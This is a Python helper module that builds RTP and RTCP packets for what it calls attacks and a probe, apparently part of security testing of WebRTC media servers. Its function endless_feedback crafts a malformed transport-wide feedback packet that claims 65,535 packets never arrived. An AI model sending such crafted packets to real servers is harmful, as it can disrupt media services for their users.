"""Packets of RTP and RTCP, as far as the attacks and the probe need them."""
from __future__ import annotations

import struct

OPUS_20_MS = b"\x08"  # the byte in front of a packet of Opus: SILK, 20 ms, one frame of whatever bytes follow


def rtp(payload_type: int, sequence: int, stamp: int, ssrc: int, payload: bytes) -> bytes:
    return struct.pack(">BBHII", 0x80, payload_type, sequence & 0xFFFF, stamp & 0xFFFF_FFFF, ssrc) + payload


def extended(packet: bytes, texts: dict[int, str]) -> bytes:
    """With header extensions of one byte (RFC 8285, section 4.2)."""
    body = b"".join(bytes([identifier << 4 | len(text) - 1]) + text.encode() for identifier, text in texts.items())
    body += bytes(-len(body) % 4)
    return bytes([packet[0] | 0x10]) + packet[1:12] + struct.pack(">HH", 0xBEDE, len(body) // 4) + body + packet[12:]


def picture(width: int, height: int) -> bytes:
    """A key frame of VP8 in one packet, as far as its head goes (RFC 6386, section 9.1); nobody decodes it."""
    return b"\x10" + bytes([0x10, 0x02, 0x00, 0x9D, 0x01, 0x2A]) + struct.pack("<HH", width, height) + bytes(190)


def is_rtcp(packet: bytes) -> bool:
    return 192 <= packet[1] <= 223


def header_size(packet: bytes) -> int:
    size = 12 + 4 * (packet[0] & 15)
    return size + 4 + 4 * int.from_bytes(packet[size + 2:size + 4], "big") if packet[0] & 0x10 else size


def _rtcp(kind: int, count: int, body: bytes) -> bytes:
    body += bytes(-len(body) % 4)
    return struct.pack(">BBH", 0x80 | count, kind, len(body) // 4) + body


def endless_feedback(ssrc: int, number: int) -> bytes:
    """40 bytes that speak of 65,535 packets, none of which came."""
    chunks = struct.pack(">9H", *[8191] * 8, 7)
    return _rtcp(205, 15, struct.pack(">IIHH", ssrc, ssrc, 0, 65_535) + bytes(3) + bytes([number & 0xFF]) + chunks)
